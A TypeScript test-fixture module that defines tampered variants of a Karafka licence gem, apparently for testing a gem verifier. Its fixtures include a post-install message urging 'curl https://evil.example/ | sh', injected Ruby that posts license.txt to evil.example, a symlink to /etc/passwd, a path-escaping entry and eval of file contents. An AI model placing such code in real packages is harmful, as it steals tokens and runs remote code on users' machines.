import type { GemMetadata } from '../gem-metadata.js';
import type { RawTarEntry } from '../tar-builder.js';
import { both, foreignToken, onCode, tokenChanges, withFile, withManyFiles, withoutFile } from './files-plan.js';
import type { LicenseGemPlan } from './license-gem-plan.js';

/** Names of what can be wrong with a licence gem; two of them are not wrong: `code-reformatted` and `revoked-token`. */
export type LicenseGemMistake = keyof typeof licenseGemChanges;

/** One way in which a licence gem is not as it should be. */
export interface LicenseGemMistakeInfo {
  readonly name: LicenseGemMistake;
  readonly about: string;
}

interface GemChange {
  readonly about: string;
  readonly change: (plan: LicenseGemPlan) => LicenseGemPlan;
}

/** What each mistake does. Everything but that one thing stays right: declared files, checksums, digests. */
export const licenseGemChanges = {
  'extra-file': { about: 'a file that no profile expects', change: withFile('lib/notes.txt', 'hello\n') },
  'hidden-file': { about: 'a file whose name begins with a dot', change: withFile('.config', 'hello\n') },
  'case-twin': { about: 'a file whose name differs only in case', change: withFile('lib/License.txt', 'hello\n') },
  'other-code': { about: 'a second file of code', change: withFile('lib/karafka/pro.rb', 'puts 1\n') },
  'many-files': { about: 'two thousand files', change: withManyFiles('lib/data') },
  extension: {
    about: 'an extension: RubyGems runs ext/extconf.rb on install',
    change: both(withFile('ext/extconf.rb', extconf()), withSpec({ extensions: ['ext/extconf.rb'] })),
  },
  executable: {
    about: 'a program in bin/',
    change: both(withFile('bin/license', '#!/usr/bin/env ruby\n'), withSpec({ executables: ['license'] })),
  },
  plugin: {
    about: 'rubygems_plugin.rb: every later gem command runs it',
    change: withFile('lib/rubygems_plugin.rb', 'warn "plugin ran"\n'),
  },
  'bundler-plugin': { about: 'plugins.rb: Bundler’s kind of plugin', change: withFile('plugins.rb', 'warn 1\n') },
  'post-install-message': {
    about: 'a message that is shown after the install',
    change: withSpec({ postInstallMessage: 'Run curl https://evil.example/ | sh to finish' }),
  },
  dependency: {
    about: 'a runtime dependency',
    change: withSpec({ dependencies: [{ name: 'rack', requirement: '~> 3.0' }] }),
  },
  'development-dependency': {
    about: 'a development dependency: nobody installs it',
    change: withSpec({ dependencies: [{ name: 'minitest', requirement: '~> 5.0', development: true }] }),
  },
  symlink: {
    about: 'a symbolic link inside the gem',
    change: withEntry({ name: 'lib/link.txt', type: '2', linkName: 'license.txt' }),
  },
  'symlink-outside': {
    about: 'a symbolic link that leaves the gem',
    change: withEntry({ name: 'lib/link.txt', type: '2', linkName: '/etc/passwd' }),
  },
  'license-symlink': { about: 'license.txt is a symbolic link', change: withLicenseLink },
  hardlink: {
    about: 'a hard link',
    change: withEntry({ name: 'lib/hard.txt', type: '1', linkName: 'lib/license.txt' }),
  },
  'duplicate-entry': { about: 'license.txt twice: the last one wins on disk', change: withSecondLicense },
  'path-escape': {
    about: 'an entry that leads out of the gem',
    change: withEntry({ name: '../escape.rb', content: '1\n' }),
  },
  setuid: {
    about: 'a file with the set-user-id bit',
    change: withEntry({ name: 'lib/setuid.txt', mode: 0o4755, content: '1\n' }),
  },
  'code-calls-home': { about: 'code that sends the token away', change: onCode(callingHome) },
  'code-own-token': {
    about: 'code that returns a token of its own, whatever license.txt says',
    change: onCode(withOwnToken),
  },
  'code-evaluates': {
    about: 'code that runs what stands in a file',
    change: onCode((code) => code.replace('File.read', 'eval File.read')),
  },
  'code-reformatted': {
    about: 'the same code with other white space and comments: harmless',
    change: onCode(reformatted),
  },
  'declared-missing': {
    about: 'the metadata lists a file that is not packed',
    change: declaring((files) => [...files, 'lib/missing.rb']),
  },
  undeclared: {
    about: 'a packed file that the metadata does not list',
    change: both(
      declaring((files) => files),
      withFile('lib/undeclared.rb', 'puts 1\n'),
    ),
  },
  'wrong-version-file': { about: 'version.txt names another licence', change: withFile('lib/version.txt', '9.9.9\n') },
  'no-version-file': { about: 'version.txt is missing', change: withoutFile(() => 'lib/version.txt') },
  ...tokenChanges,
  'other-name': { about: 'the metadata names another gem', change: withSpec({ name: 'karafka-licence' }) },
  'other-version': { about: 'the metadata names another version', change: withSpec({ version: '9.9.9' }) },
  'other-platform': { about: 'the metadata names a platform', change: withSpec({ platform: 'java' }) },
  'required-ruby-version': {
    about: 'for a Ruby that does not exist',
    change: withSpec({ requiredRubyVersion: '>= 99.0' }),
  },
  'required-rubygems-version': {
    about: 'for a RubyGems that does not exist',
    change: withSpec({ requiredRubygemsVersion: '>= 99.0' }),
  },
  'require-path': { about: 'a require path besides lib', change: withSpec({ requirePaths: ['lib', 'hidden'] }) },
  'wrong-checksums': {
    about: 'checksums.yaml is about other bytes',
    change: (plan: LicenseGemPlan) => ({ ...plan, checksums: zeroChecksums }),
  },
  'extra-member': {
    about: 'a fourth member beside metadata, data and checksums',
    change: (plan: LicenseGemPlan) => ({ ...plan, extraMembers: [{ path: 'payload.gz', content: 'x' }] }),
  },
} as const satisfies Readonly<Record<string, GemChange>>;

/** Everything that can be wrong with a licence gem, each by name, for `test.each`. */
export const licenseGemMistakes: readonly LicenseGemMistakeInfo[] = Object.entries(licenseGemChanges).map(
  ([name, { about }]) => ({ name: name as LicenseGemMistake, about }),
);

type Change = GemChange['change'];

function withSpec(spec: Partial<GemMetadata>): Change {
  return (plan) => ({ ...plan, spec: { ...plan.spec, ...spec } });
}

/** The entry is declared like any other, so that it is the only thing wrong. */
function withEntry(entry: RawTarEntry): Change {
  return (plan) => {
    const declared = plan.spec.files ?? Object.keys(plan.files);
    return {
      ...plan,
      entries: [...plan.entries, entry],
      spec: { ...plan.spec, files: [...declared, String(entry.name)] },
    };
  };
}

/** Says from now on what the metadata declares. */
function declaring(files: (paths: readonly string[]) => readonly string[]): Change {
  return (plan) => ({ ...plan, spec: { ...plan.spec, files: files(Object.keys(plan.files)) } });
}

function withLicenseLink(plan: LicenseGemPlan): LicenseGemPlan {
  const link = withEntry({ name: 'lib/license.txt', type: '2', linkName: '../../../license.txt' });
  return link(withoutFile(({ tokenPath }) => tokenPath)(plan));
}

function withSecondLicense(plan: LicenseGemPlan): LicenseGemPlan {
  const content = `${foreignToken()}\n`;
  return { ...plan, entries: [...plan.entries, { name: 'lib/license.txt', content }] };
}

function callingHome(code: string): string {
  return `require 'net/http'\n${code}Net::HTTP.post(URI('http://evil.example/'), File.read(File.join(__dir__, 'license.txt')))\n`;
}

function withOwnToken(code: string): string {
  return code.replace("read('license.txt')", "'a token of its own'");
}

function reformatted(code: string): string {
  return `${code.replaceAll('  ', '\t').replace('# @return [String] licence id', '# The id.\n\n')}\n# end of file\n`;
}

function extconf(): string {
  return `File.write(File.join(__dir__, 'ran.txt'), 'ran')\nFile.write('Makefile', "all install clean:\\n")\n`;
}

const zeroChecksums = `---\nSHA256:\n  metadata.gz: ${'0'.repeat(64)}\n  data.tar.gz: ${'0'.repeat(64)}\n`;
